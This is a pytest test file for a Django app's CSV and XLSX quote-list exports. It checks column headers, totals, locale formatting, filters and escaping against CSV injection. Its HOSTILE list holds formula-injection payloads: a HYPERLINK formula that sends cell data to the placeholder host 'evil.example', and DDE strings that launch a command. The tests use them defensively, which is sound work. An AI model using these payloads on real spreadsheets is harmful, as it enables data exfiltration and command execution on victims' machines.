"""The quote list as CSV and XLSX: the list's filters, amounts and dates as a spreadsheet
reads them, and customer text that would start a formula kept as text (OWASP: CSV
injection)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from quotes.models import Quote
from quotes.offer.services import quote_sign
from quotes.overview.exports import spreadsheet_safe

from .doc_support import doc_env, signing_cert  # noqa: F401
from .factories import QuoteFactory
from .overview_support import offer, save

CSV = reverse("quotes:export-csv")
XLSX = reverse("quotes:export-xlsx")
S = Quote.Status
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")",
    "+46 8 123 456",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response, delimiter=";") -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads å, ä and ö
    return list(csv.reader(io.StringIO(body[1:]), delimiter=delimiter))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_quote_first(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Nordisk Logistik AB", "556987-6542", "erik@example.se", "", "A=B", "1+1"])
def test_other_text_is_left_as_it_is(text):
    assert spreadsheet_safe(text) == text


def test_the_csv_has_the_lists_quotes_with_frozen_totals(doc_env, seller_client, seller, other_seller):
    signed = quote_sign(quote=QuoteFactory(owner=seller, company_name="Signerat AB"), user=seller)
    QuoteFactory(empty=True, owner=other_seller, company_name="Kollegans utkast AB", items={"mobile_user": 10})
    r = seller_client.get(CSV)
    assert r.status_code == 200 and r["Content-Type"] == "text/csv; charset=utf-8"
    assert r["Content-Disposition"].startswith('attachment; filename="offerter-')
    header, *rows = csv_rows(r)
    assert header == [
        "Offert", "Kund", "Organisationsnummer", "Kontaktperson", "E-post", "Status", "Säljare", "Skapad",
        "Signerad", "Giltig till", "Accepterad", "Engångsavgift (kr)", "Per månad (kr)", "Avtalsvärde (kr)",
    ]
    assert [row[1] for row in rows] == ["Signerat AB", "Kollegans utkast AB"]  # the list's order
    totals = signed.snapshot["totals"]
    mine = rows[0]
    assert mine[0] == signed.reference and mine[5] == "Skickad" and mine[6] == "Sara Säljare"
    assert mine[9] == signed.valid_until.isoformat() and mine[10] == ""
    assert mine[11:] == [totals["one_time"].replace(".", ","), totals["monthly"].replace(".", ","),
                         totals["contract_value"].replace(".", ",")]
    draft = rows[1]
    assert draft[0] == "" and draft[5] == "Utkast" and draft[8] == ""
    assert draft[12] == "890,00"  # priced live, as the list shows it (10 users)


def test_the_csv_in_english_uses_commas_and_decimal_points(seller_client, seller, price_list):
    save([offer(seller, price_list, status=S.SENT, company="Kund AB")])
    seller_client.post(reverse("set_language"), {"language": "en", "next": "/"})
    header, row = csv_rows(seller_client.get(CSV), delimiter=",")
    assert header[:2] == ["Quote", "Customer"] and row[5] == "Sent"
    assert row[13] == "41000.00"  # contract value, from the signed column


def test_customer_text_stays_text_in_the_csv(seller_client, seller, price_list):
    save([offer(seller, price_list, status=S.DRAFT, company=text) for text in HOSTILE])
    _header, *rows = csv_rows(seller_client.get(CSV))
    assert sorted(row[1] for row in rows) == sorted("'" + text for text in HOSTILE)


def test_the_xlsx_has_numbers_dates_and_text_never_formulas(seller_client, seller, price_list):
    save([offer(seller, price_list, status=S.SENT, company=text, signed=None) for text in HOSTILE])
    r = seller_client.get(XLSX)
    assert r["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet.title == "Offerter" and sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]][:3] == ["Offert", "Kund", "Organisationsnummer"]
    customers = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in customers) == sorted("'" + text for text in HOSTILE)
    assert {c.data_type for c in customers} == {"s"}  # strings, none a formula ("f")
    row = next(sheet.iter_rows(min_row=2))
    assert isinstance(row[8].value, date) and row[8].number_format == "yyyy-mm-dd"  # signed
    assert Decimal(str(row[13].value)) == Decimal("41000") and row[13].data_type == "n"


def test_the_exports_take_the_lists_filters(seller_client, seller, other_seller, price_list):
    save([
        offer(seller, price_list, status=S.ACCEPTED, company="Min vunna AB"),
        offer(seller, price_list, status=S.SENT, company="Min skickade AB"),
        offer(other_seller, price_list, status=S.ACCEPTED, company="Kollegans vunna AB"),
    ])
    params = {"status": "accepted", "saljare": seller.pk}
    _header, *rows = csv_rows(seller_client.get(CSV, params))
    assert [row[1] for row in rows] == ["Min vunna AB"]
    sheet = load_workbook(io.BytesIO(seller_client.get(XLSX, {"q": "kollegans"}).content)).active
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == ["Kollegans vunna AB"]
